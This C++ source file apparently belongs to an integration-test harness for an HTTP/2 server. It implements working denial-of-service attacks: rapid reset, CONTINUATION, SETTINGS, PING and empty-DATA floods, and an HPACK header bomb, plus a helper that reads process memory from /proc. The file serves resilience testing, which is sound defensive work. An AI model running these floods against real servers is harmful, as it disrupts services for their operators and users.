// The canned attacks of h2::Client (h2_client.h): each writes its frames
// in batches without waiting for replies and stops at the first failed write.
#include "h2_client.h"

#include <fstream>

namespace aegis::itest::h2 {

namespace {

constexpr std::size_t kAttackBatchBytes = 64 * 1024;

}  // namespace

AttackResult Client::flood(int n, const std::string& unit) {
  AttackResult r;
  int batched = 0;
  for (int i = 0; i < n; ++i) {
    out_ += unit;
    ++batched;
    if (out_.size() >= kAttackBatchBytes || i + 1 == n) {
      if (!flush(opts_.timeout)) {
        r.write_failed = true;
        return r;
      }
      r.sent += batched;
      batched = 0;
    }
  }
  return r;
}

AttackResult Client::rapid_reset(int n, const Headers& h) {
  AttackResult r;
  while (r.sent < n && !r.write_failed) {
    std::string batch;
    int in_batch = 0;
    for (; r.sent + in_batch < n && batch.size() < kAttackBatchBytes; ++in_batch) {
      const std::uint32_t id = next_stream_id();
      batch += frame_bytes(FrameType::kHeaders, flag::kEndHeaders | flag::kEndStream, id, encoder_.encode(h));
      batch += frame_bytes(FrameType::kRstStream, 0, id, u32_be(err::kCancel));
    }
    if (send_raw(batch)) {
      r.sent += in_batch;
    } else {
      r.write_failed = true;
    }
  }
  return r;
}

AttackResult Client::continuation_flood(int n, const Headers& h, std::size_t bytes_per_frame) {
  const std::uint32_t id = next_stream_id();
  if (!send_frame(FrameType::kHeaders, flag::kEndStream, id, encoder_.encode(h))) return {0, true};
  const std::string block =
      bytes_per_frame == 0 ? std::string() : encoder_.encode({{"x-continuation", std::string(bytes_per_frame, 'c')}}, true);
  return flood(n, frame_bytes(FrameType::kContinuation, 0, id, block));
}

AttackResult Client::settings_flood(int n) {
  return flood(n, frame_bytes(FrameType::kSettings, 0, 0, settings_payload({{setting::kEnablePush, 0}})));
}

AttackResult Client::ping_flood(int n) {
  return flood(n, frame_bytes(FrameType::kPing, 0, 0, std::string(8, 'p')));
}

AttackResult Client::empty_data_flood(int n, const Headers& post) {
  const std::uint32_t id = next_stream_id();
  if (!send_headers(id, post, false)) return {0, true};
  return flood(n, frame_bytes(FrameType::kData, 0, id, {}));
}

AttackResult Client::hpack_bomb(int repeats, std::size_t value_size, const Headers& h) {
  Headers bomb = h;
  bomb.insert(bomb.end(), static_cast<std::size_t>(repeats), Header{"x-bomb", std::string(value_size, 'b')});
  const std::uint32_t id = next_stream_id();
  return send_headers(id, bomb, true) ? AttackResult{1, false} : AttackResult{0, true};
}

}  // namespace aegis::itest::h2

namespace aegis::itest {

std::optional<std::uint64_t> vm_rss_kib(pid_t pid) {
  std::ifstream in("/proc/" + std::to_string(pid) + "/status");
  std::string line;
  while (std::getline(in, line)) {
    if (line.rfind("VmRSS:", 0) == 0) return std::strtoull(line.c_str() + 6, nullptr, 10);
  }
  return std::nullopt;
}

}  // namespace aegis::itest
